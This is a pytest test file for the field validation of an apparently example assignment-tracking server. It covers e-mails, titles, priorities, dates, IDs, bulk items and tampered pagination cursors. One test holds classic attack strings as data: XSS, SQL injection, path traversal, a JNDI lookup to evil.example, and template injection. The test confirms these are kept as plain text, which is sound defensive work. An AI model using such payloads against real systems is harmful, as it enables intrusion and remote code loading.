"""Boundaries of every input rule, and that all field errors are reported together."""

from __future__ import annotations

from datetime import date

import pytest

from example_server import validation
from example_server.errors import ErrorKind, ToolFailure
from example_server.pagination import encode_cursor
from example_server.validation import FieldError

pytestmark = pytest.mark.unit


def field_error(checker, value) -> str:
    with pytest.raises(FieldError) as info:
        checker(value)
    return str(info.value)


@pytest.mark.parametrize("value", [1, 2, 5])
def test_priority_accepts_1_to_5(value):
    assert validation.check_priority(value) == value


@pytest.mark.parametrize("value", [0, 6, -1, 100])
def test_priority_out_of_range(value):
    assert field_error(validation.check_priority, value) == "must be between 1 and 5"


@pytest.mark.parametrize("value", [True, False, 3.0, "3", None, [3]])
def test_priority_must_be_a_real_integer(value):
    assert field_error(validation.check_priority, value) == "must be an integer"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a@b.co", "a@b.co"),
        ("first.last+tag@sub.example.org", "first.last+tag@sub.example.org"),
        ("Bob@Example.COM", "bob@example.com"),
        ("x_y%z-1@a-b.example", "x_y%z-1@a-b.example"),
        ("a" * 64 + "@example.com", "a" * 64 + "@example.com"),
    ],
)
def test_valid_emails(value, expected):
    assert validation.check_email(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "",
        "plain",
        "a@b",
        "a@@b.co",
        "@b.co",
        "a@",
        ".a@b.co",
        "a.@b.co",
        "a..b@c.co",
        "a@-b.co",
        "a@b-.co",
        "a@b..co",
        "a b@c.co",
        "a@b.co\n",
        " a@b.co",
        "a@b.c",
        "a@b.co1",
        "ä@b.co",
        "a@bü.co",
        "a<script>@b.co",
        "a" * 65 + "@example.com",
    ],
)
def test_invalid_emails(value):
    assert field_error(validation.check_email, value) == "must be a valid e-mail address"


def test_email_length_boundary():
    domain = "@" + ".".join(["d" * 60] * 3) + ".com"  # 1 + 182 + 4 = 187 characters
    at_limit = "a" * 64 + "@" + "d" * 63 + "." + "e" * 63 + "." + "f" * 57 + ".com"
    assert len(at_limit) == 254
    assert validation.check_email(at_limit) == at_limit
    assert field_error(validation.check_email, "x" + at_limit) == "must be at most 254 characters"
    assert validation.check_email("a" * 60 + domain) == "a" * 60 + domain


@pytest.mark.parametrize("value", [None, 5, ["a@b.co"]])
def test_email_must_be_a_string(value):
    assert field_error(validation.check_email, value) == "must be a string"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("x", "x"),
        ("  padded  ", "padded"),
        ("t" * 200, "t" * 200),
        ("  " + "t" * 200 + "  ", "t" * 200),
        ("é" * 200, "é" * 200),
        ("日本語のタイトル", "日本語のタイトル"),
    ],
)
def test_valid_titles(value, expected):
    assert validation.check_title(value) == expected


def test_title_length_limit_is_200():
    assert field_error(validation.check_title, "t" * 201) == "must be at most 200 characters"


@pytest.mark.parametrize("value", ["", " ", "   \u3000 "])
def test_title_must_not_be_blank(value):
    assert field_error(validation.check_title, value) == "must not be empty"


@pytest.mark.parametrize(
    "value",
    ["a\x00b", "a\tb", "a\nb", "line\r", "\x1b[31mred", "a\x7fb", "a\x80b", "a\x85b", "a\x9fb", " x\n"],
)
def test_title_rejects_control_characters(value):
    assert field_error(validation.check_title, value) == "must not contain control characters"


def test_title_rejects_lone_surrogates():
    assert field_error(validation.check_title, "bad \ud800 text") == "must be valid Unicode text"


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "'; DROP TABLE assignments; --",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} %s %n",
    ],
)
def test_hostile_looking_titles_are_plain_text(value):
    assert validation.check_title(value) == value


@pytest.mark.parametrize("value", [None, 1, ["x"]])
def test_title_must_be_a_string(value):
    assert field_error(validation.check_title, value) == "must be a string"


@pytest.mark.parametrize("value", ["open", "in_progress", "done"])
def test_valid_statuses(value):
    assert validation.check_status(value) == value


@pytest.mark.parametrize("value", ["Open", "closed", "", None, 1])
def test_invalid_statuses(value):
    assert field_error(validation.check_status, value) == "must be one of open, in_progress, done"


@pytest.mark.parametrize(("value", "expected"), [("2025-02-28", date(2025, 2, 28)), ("2024-02-29", date(2024, 2, 29))])
def test_valid_due_dates(value, expected):
    assert validation.check_due_date(value) == expected


@pytest.mark.parametrize("value", ["2025-02-29", "2025-13-01", "2025-00-10"])
def test_due_date_must_exist(value):
    assert field_error(validation.check_due_date, value) == "must be a real calendar date"


@pytest.mark.parametrize(
    "value",
    ["2025-1-01", "20250101", "2025-01-01T00:00", "2025-01-01 ", "\uff12\uff10\uff12\uff15-01-01", 20250101, None],
)
def test_due_date_format(value):
    assert field_error(validation.check_due_date, value) == "must be a date in YYYY-MM-DD format"


@pytest.mark.parametrize("value", [1, 20, 100])
def test_page_size_accepts_1_to_100(value):
    assert validation.check_page_size(value) == value


@pytest.mark.parametrize("value", [0, 101, -5, True, "10", 10.0])
def test_page_size_rejects(value):
    assert field_error(validation.check_page_size, value) == "must be an integer between 1 and 100"


@pytest.mark.parametrize("value", [0, -1, True, "1", 1.0, 2**63])
def test_ids_are_positive_64_bit_integers(value):
    assert field_error(validation.check_id, value) == "must be a positive integer"


def test_all_field_errors_are_reported_at_once():
    with pytest.raises(ToolFailure) as info:
        validation.new_assignment(title="\x00", assignee="nope", priority=True, due_date="tomorrow")
    failure = info.value
    assert failure.kind is ErrorKind.INVALID_INPUT
    assert failure.details == {
        "title": "must not contain control characters",
        "assignee": "must be a valid e-mail address",
        "priority": "must be an integer",
        "due_date": "must be a date in YYYY-MM-DD format",
    }
    assert failure.payload() == {"error": "invalid_input", "message": "invalid input", "details": failure.details}


def test_new_assignment_normalises():
    item = validation.new_assignment(" Write docs ", "Ann@Example.com", 1, "2030-01-31")
    assert (item.title, item.assignee, item.priority, item.due_date) == (
        "Write docs",
        "ann@example.com",
        1,
        date(2030, 1, 31),
    )


def test_bulk_items_shape():
    for bad in (None, {}, "items", [], [{"title": "t", "assignee": "a@b.co"}] * 101):
        with pytest.raises(ToolFailure) as info:
            validation.bulk_items(bad)
        assert info.value.details == {"items": "must be a list of 1 to 100 assignments"}
    assert len(validation.bulk_items([{"title": "t", "assignee": "a@b.co"}] * 100)) == 100


def test_bulk_items_reports_every_item():
    with pytest.raises(ToolFailure) as info:
        validation.bulk_items(
            [
                {"title": "ok", "assignee": "a@b.co"},
                "not an object",
                {"title": "", "assignee": "a@b.co", "priority": 9},
                {"assignee": "a@b.co", "colour": "red"},
            ]
        )
    assert info.value.details == {
        "items[1]": "must be an object",
        "items[2].title": "must not be empty",
        "items[2].priority": "must be between 1 and 5",
        "items[3].colour": "unknown field",
        "items[3].title": "is required",
    }


def test_bulk_missing_required_field():
    with pytest.raises(ToolFailure) as info:
        validation.bulk_items([{"assignee": "a@b.co"}])
    assert info.value.details == {"items[0].title": "is required"}


def test_update_needs_at_least_one_change():
    with pytest.raises(ToolFailure) as info:
        validation.assignment_update(1)
    assert info.value.kind is ErrorKind.INVALID_INPUT
    assert info.value.message.startswith("nothing to update")


def test_update_reports_id_and_field_errors_together():
    with pytest.raises(ToolFailure) as info:
        validation.assignment_update("7", status="closed", priority=0)
    assert info.value.details == {
        "assignment_id": "must be a positive integer",
        "status": "must be one of open, in_progress, done",
        "priority": "must be between 1 and 5",
    }


def test_update_changes_columns():
    checked_id, changes = validation.assignment_update(3, status="done", due_date="2030-02-01")
    assert checked_id == 3
    assert changes.columns() == {"status": "done", "due_date": "2030-02-01"}


def test_list_query_round_trips_a_cursor():
    query = validation.list_query(cursor=encode_cursor(41), page_size=5, status="open")
    assert (query.after_id, query.page_size, query.status) == (41, 5, "open")


@pytest.mark.parametrize(
    "cursor",
    [
        "",
        "garbage!",
        "eyJ2IjoxfQ==",  # {"v":1}
        "eyJ2IjoyLCJhZnRlciI6MX0=",  # version 2
        "eyJ2IjoxLCJhZnRlciI6LTF9",  # after -1
        "eyJ2IjoxLCJhZnRlciI6dHJ1ZX0=",  # after true
        "eyJ2IjoxLCJhZnRlciI6IjEifQ==",  # after "1"
        "eyJ2IjogMSwgImFmdGVyIjogMX0=",  # non-canonical spacing
        encode_cursor(5) + "A",
        encode_cursor(5).rstrip("="),
        "é",
        "x" * 500,
        5,
    ],
)
def test_tampered_cursors_are_invalid_input(cursor):
    with pytest.raises(ToolFailure) as info:
        validation.list_query(cursor=cursor)
    assert info.value.details == {"cursor": "is not a cursor returned by list_assignments"}


# -- gaps found by mutation testing (docs/example-server.md#mutation-testing) -----------------------


def test_the_largest_id_is_accepted_and_one_more_is_not():
    assert validation.check_id(validation.MAX_ID) == 2**63 - 1
    assert field_error(validation.check_id, validation.MAX_ID + 1) == "must be a positive integer"


def test_list_query_defaults_to_pages_of_20():
    assert validation.list_query().page_size == 20
